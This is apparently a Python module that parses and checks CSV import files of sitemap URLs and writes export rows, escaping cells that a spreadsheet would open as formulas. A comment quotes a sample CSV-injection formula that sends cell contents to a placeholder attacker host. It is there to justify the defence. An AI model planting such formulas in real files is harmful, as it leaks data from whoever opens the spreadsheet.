"""The rows of a CSV file, both ways: parsing and checking a piece of an import file, apart from
the rest of the application, and the cells an export writes for a URL's images and alternates.

Large imports run the checks in a worker process, which then imports only these rules.

A URL's images and language versions take four columns, each cell a list of one item per line
(what a spreadsheet shows as a cell of several lines):
- `images`: the image URLs, in order (spaces between them are read as line breaks too);
- `image_titles`, `image_captions`: one line per image, in the same order, an empty line for an
  image without one; a line break inside a title is written `\\n`, a backslash `\\\\`;
- `alternates`: `LANG=URL` pairs, the page itself among them, as in the edit form.
Its videos take the columns of video_cells (`video_thumbnail_locs`, `video_titles`, ...).

A cell that a spreadsheet would open as a formula is written after a single quote, which the
import takes off again (`spreadsheet_cell`, `stored_cell`): an export read back is what was
stored, to the character.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator, Sequence

from webapp.errors import InvalidValue, rule_text, said_of
from webapp.protocol import (
    FIELD_RULES,
    LANG_URL_RULE,
    MAX_IMAGES_PER_URL,
    Scope,
    check_text,
    format_priority,
    lists_itself,
    normalize_hreflang,
    normalize_url,
    one_url_per_language,
    too_many_images,
)
from webapp.protocol.news import NEWS_COLUMNS, news_cells, too_old_note
from webapp.urls.exclusions import Excluded, Rules
from webapp.urls.video_cells import VIDEO_COLUMNS, export_cells, read_videos

Row = tuple[int, list[str]]  # (line number, cells)
Image = tuple[str, str | None, str | None]  # (loc, title, caption)
# What a CSV row says of the URL's images, alternates and videos; None: the file has no such
# column.
Extensions = tuple[tuple[Image, ...] | None, tuple[tuple[str, str], ...] | None, tuple | None]

FIELDS = ("loc", *FIELD_RULES)  # a URL's own columns, stored in its row
EXTENSION_COLUMNS = ("images", "image_titles", "image_captions", "alternates", *VIDEO_COLUMNS,
                     *NEWS_COLUMNS)
CSV_COLUMNS = (*FIELDS, *EXTENSION_COLUMNS)  # what an export writes, in this order
# The longest row an import reads: a thousand images (the most a URL may have) of the longest
# URLs take 2 million characters. A cell may be as long (the csv module's own limit, 131,072
# characters, is shorter than a thousand image URLs). A longer row refuses the file.
MAX_ROW_CHARS = 8 << 20
csv.field_size_limit(MAX_ROW_CHARS)  # the csv module has one limit for the whole process


# What starts a formula in Excel and LibreOffice (OWASP, "CSV Injection"): a title stored by a
# content system, `=HYPERLINK("http://attacker.example/?"&A2, "Details")`, would run in the
# spreadsheet of whoever opens the export.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def stored_cell(cell: str) -> str:
    """The value of a cell as the import reads it: without the single quote an export puts
    before a cell that starts a formula, or before one that starts with a quote and then one
    of these (a quote followed by anything else is the value's own)."""
    if cell.startswith("'") and cell[1:2] in ("'", *FORMULA_STARTS):
        return cell[1:]
    return cell


def spreadsheet_cell(value: str) -> str:
    """The cell an export writes for `value`: after a single quote when a spreadsheet would
    open it as a formula, or when the import would otherwise take a quote of its own off."""
    if value.startswith(FORMULA_STARTS) or stored_cell(value) != value:
        return "'" + value
    return value


def _rows(columns: tuple[str, ...], first_line: int, text: str) -> Iterator[Row]:
    """(number of the line the row starts on, cells) for every non-blank row of a chunk."""
    if not columns:
        for number, raw in enumerate(text.split("\n"), start=first_line):
            raw = raw.strip()
            if raw and not raw.startswith("#"):
                yield number, [raw]
        return
    reader = csv.reader(io.StringIO(text))
    consumed = 0
    for cells in reader:
        start, consumed = first_line + consumed, reader.line_num
        if cells:
            yield start, [stored_cell(cell) for cell in cells]


def validate_text(base_url: str, encoding: str, columns: tuple[str, ...],
                  chunk: tuple[int, str], rules: Rules = Rules()) -> tuple[
                      list[tuple], list[tuple[int, list]], list[tuple[int, list]], list[str]]:
    """Parse and check a piece of the file: valid values (as below), (line, reason) of
    each row rejected, (line, note) of each row kept with a change (a fragment or tracking
    parameters removed), and the rule of each row the site's `rules` exclude. Reasons and
    notes are webapp.said items (JSON): each reader hears them in their language.

    The values of a row are its fields in the order of `columns` (extension columns left out),
    followed, when the file has any extension column, by its images, its alternates and its
    videos (`Extensions`) and its news data (`news.news_cells`). A pure function of its
    arguments, so it can run in a worker process.
    """
    scope = Scope(base_url, encoding)

    def normalize_loc(raw: str) -> tuple[str, list]:
        loc, note = scope.normalize_noting(raw)
        loc, stripped = rules.apply(loc)
        return loc, [n for n in (note, stripped) if n is not None]

    names = columns or ("loc",)
    fields = [(n, normalize_loc if name == "loc" else FIELD_RULES[name])
              for n, name in enumerate(names) if name in FIELDS]
    extensions = {name: n for n, name in enumerate(names) if name in EXTENSION_COLUMNS}
    loc_at = [name for name in names if name in FIELDS].index("loc")
    width = len(names)
    valid, rejected, noted, excluded = [], [], [], []
    for line, cells in _rows(columns, *chunk):
        if len(cells) != width:
            rejected.append((line, [said_of(rule_text(
                "has %(cells)s fields; the header has %(width)s", cells=len(cells),
                width=width))]))
            continue
        try:
            values = [rule(cells[n]) for n, rule in fields]
            values[loc_at], notes = values[loc_at]
            values = tuple(values)
            if extensions:
                given = {name: cells[n] for name, n in extensions.items()}
                news = news_cells(given)
                values += (*read_extensions(values[loc_at], given, encoding), news)
                notes += [note for note in (news and too_old_note(news[0]),) if note]
        except Excluded as exc:
            excluded.append(exc.pattern)
            continue
        except InvalidValue as exc:
            rejected.append((line, exc.said_line()))
            continue
        noted.extend((line, note.said_line()) for note in notes)
        valid.append(values)
    return valid, rejected, noted, excluded


# --- Images and alternates in cells ------------------------------------------------------------

_ESCAPED = re.compile(r"\\([\\nr])")
_UNESCAPED = {"\\": "\\", "n": "\n", "r": "\r"}


def _lines(cell: str) -> list[str]:
    return [line.removesuffix("\r") for line in cell.split("\n")]


def _texts(name: str, cell: str, count: int) -> list[str | None]:
    """The titles (or captions) of `count` images: one line each, or an empty cell for none."""
    if not cell.strip():
        return [None] * count
    lines = _lines(cell)
    if len(lines) != count:
        raise InvalidValue(name, cell, rule_text(
            "has %(lines)s lines and there are %(images)s images: write one line per image, an "
            "empty line for an image without one", lines=len(lines), images=count))
    texts = [check_text(name, _ESCAPED.sub(lambda m: _UNESCAPED[m[1]], line)) for line in lines]
    return [text or None for text in texts]


def read_extensions(loc: str, cells: dict[str, str], encoding: str) -> Extensions:
    """A row's images, alternates and videos from its extension cells, checked by the
    protocol's rules, or InvalidValue naming the column."""
    images = None
    if "images" in cells:
        locs = [normalize_url(image, encoding, field="images") for image in cells["images"].split()]
        if len(locs) > MAX_IMAGES_PER_URL:
            raise InvalidValue("images", f"{len(locs)} images", too_many_images())
        titles = _texts("image_titles", cells.get("image_titles", ""), len(locs))
        captions = _texts("image_captions", cells.get("image_captions", ""), len(locs))
        images = tuple(zip(locs, titles, captions))
    alternates = None
    if "alternates" in cells:
        pairs: dict[str, str] = {}
        for pair in cells["alternates"].split():
            lang, sep, href = pair.partition("=")
            if not sep:
                raise InvalidValue("alternates", pair, LANG_URL_RULE)
            lang, href = normalize_hreflang(lang), normalize_url(href, encoding, field="alternates")
            if pairs.setdefault(lang, href) != href:
                raise InvalidValue("alternates", pair, one_url_per_language(lang, pairs[lang],
                                                                            href))
        if pairs and loc not in pairs.values():
            raise InvalidValue("alternates", ", ".join(pairs), lists_itself(loc))
        alternates = tuple(sorted(pairs.items()))
    return images, alternates, read_videos(loc, cells, encoding)


def _escaped(text: str | None) -> str:
    return (text or "").replace("\\", "\\\\").replace("\n", "\\n").replace("\r", "\\r")


def export_row(loc: str, lastmod: str | None, changefreq: str | None, priority: float | None,
               images: Sequence[Image], alternates: Sequence[tuple[str, str]],
               videos: Sequence | None = None,
               news: tuple[str, str] | None = None) -> list[str]:
    """The cells of a URL in the order of CSV_COLUMNS, as the import reads them back (without
    the video columns when `videos` is None: an export of a site without videos); none opens
    as a formula in a spreadsheet."""
    titles = [_escaped(title) for _, title, _ in images]
    captions = [_escaped(caption) for _, _, caption in images]
    cells = [loc, lastmod or "", changefreq or "",
             "" if priority is None else format_priority(priority),
             "\n".join(image for image, _, _ in images),
             "\n".join(titles) if any(titles) else "",
             "\n".join(captions) if any(captions) else "",
             "\n".join(f"{lang}={href}" for lang, href in alternates),
             *(() if videos is None else export_cells(videos)), *(news or ("", ""))]
    return [spreadsheet_cell(cell or "") for cell in cells]
